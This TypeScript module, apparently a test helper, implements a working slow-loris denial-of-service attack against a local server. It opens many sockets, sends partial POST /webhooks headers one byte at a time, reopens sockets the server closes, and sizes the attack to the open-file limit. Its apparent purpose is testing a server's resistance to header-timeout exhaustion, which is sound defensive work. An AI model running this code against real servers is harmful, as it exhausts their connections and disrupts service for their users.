/**
 * A slow-loris attack on 127.0.0.1: many sockets that start a request and then send its headers one byte
 * at a time, never finishing, so that each holds a connection (and a file descriptor) on the server. One
 * timer drives every socket; a socket the server closes is counted and opened again while the attack runs.
 */
import { execFileSync } from 'node:child_process';
import { connect, type Socket } from 'node:net';

/** Descriptors kept free for everything else a process opens (database, pipes, sockets of the test). */
const FD_HEADROOM = 256;

/** This process's open-file limit (`ulimit -n`); child processes inherit it. */
export function openFileLimit(): number {
  const text = execFileSync('sh', ['-c', 'ulimit -n'], { encoding: 'utf8' }).trim();
  return text === 'unlimited' ? Number.POSITIVE_INFINITY : Number(text);
}

/** How many attack sockets fit under the limit, at most `wanted`. */
export function affordableConnections(wanted: number): number {
  return Math.max(1, Math.min(wanted, openFileLimit() - FD_HEADROOM));
}

/** A running attack. */
export interface SlowLorisAttack {
  /** Sockets connected right now. */
  readonly open: number;
  /** Most sockets connected at once. */
  readonly peakOpen: number;
  /** Sockets the server closed (header timeout, or any other reason). */
  readonly closedByServer: number;
  /** Header bytes sent so far. */
  readonly bytesSent: number;
  /** Resolves once `connections` sockets are connected at the same time (or rejects after `timeoutMs`). */
  allConnected(timeoutMs: number): Promise<void>;
  /** Ends the attack: every socket is destroyed. */
  stop(): void;
}

/** Opens `connections` sockets to `port` and trickles a header byte on each every `byteIntervalMs`. */
export function startSlowLoris(options: {
  port: number;
  connections: number;
  byteIntervalMs: number;
}): SlowLorisAttack {
  const sockets = new Set<Socket>();
  let connected = 0;
  let peakOpen = 0;
  let closedByServer = 0;
  let bytesSent = 0;
  let stopped = false;

  const open = (index: number): void => {
    const socket = connect({ host: '127.0.0.1', port: options.port });
    sockets.add(socket);
    let isConnected = false;
    socket.setNoDelay(true);
    socket.on('connect', () => {
      isConnected = true;
      connected += 1;
      peakOpen = Math.max(peakOpen, connected);
      socket.write(`POST /webhooks HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow-${index}: `);
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      sockets.delete(socket);
      if (isConnected) connected -= 1;
      if (stopped) return;
      closedByServer += 1;
      // Keep the pressure on: a slow-loris reconnects.
      setTimeout(() => {
        if (!stopped) open(index);
      }, 50);
    });
  };
  for (let i = 0; i < options.connections; i++) open(i);

  const timer = setInterval(() => {
    for (const socket of sockets) {
      if (socket.readyState === 'open') {
        socket.write('a');
        bytesSent += 1;
      }
    }
  }, options.byteIntervalMs);

  return {
    get open() {
      return connected;
    },
    get peakOpen() {
      return peakOpen;
    },
    get closedByServer() {
      return closedByServer;
    },
    get bytesSent() {
      return bytesSent;
    },
    async allConnected(timeoutMs) {
      const deadline = performance.now() + timeoutMs;
      while (connected < options.connections) {
        if (performance.now() > deadline) {
          throw new Error(`only ${connected} of ${options.connections} slow-loris sockets connected`);
        }
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    },
    stop() {
      stopped = true;
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
      sockets.clear();
    },
  };
}
